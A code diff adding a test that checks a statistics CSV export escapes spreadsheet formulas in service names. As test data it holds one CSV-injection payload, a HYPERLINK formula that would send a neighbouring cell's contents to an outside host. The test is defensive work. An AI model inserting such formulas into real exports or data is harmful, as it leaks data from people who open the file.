@@ -221,3 +221,20 @@ def test_the_counting_week_counts_every_channel_by_kle_area_and_kind(
             ["Cash desk", "", "Cash desk", "Transaction (an errand done)", "1"],
         ]
     )
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_counting_week(
+    centre: Location, passport: Service, staff_client: StaffClient
+) -> None:
+    """The counting week goes to KL: a service named as a formula must not
+    become a live link in whoever opens the file."""
+    passport.name_da = '=HYPERLINK("http://example.com/?"&A2,"Klik her")'
+    passport.kle_number = "05.04.00"
+    passport.save()
+    make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
+    manager = staff_client(member(Role.MANAGER, centre))
+    response = manager.get("/personale/statistik/optaellingsuge/", {"dato": "2026-12-09"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    (row,) = rows[1:]
+    assert row[2] == "'" + passport.name_da
+    assert row[4] == "1"
